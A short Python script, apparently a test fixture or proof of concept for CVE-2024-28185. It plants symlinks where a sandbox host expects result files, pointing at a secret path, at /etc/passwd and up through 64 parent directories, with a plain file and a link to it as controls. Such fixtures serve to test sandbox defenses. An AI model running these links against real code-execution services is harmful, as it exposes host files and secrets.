"""Leaves links where the host expects results (CVE-2024-28185)."""
import os
import sys

secret = sys.argv[1]
os.symlink(secret, "report.txt")
os.symlink("/etc/passwd", "inside.txt")
os.symlink("../" * 64 + secret.lstrip("/"), "relative.txt")
with open("honest.txt", "w") as file:
    file.write("a regular file")
os.symlink("honest.txt", "sibling.txt")
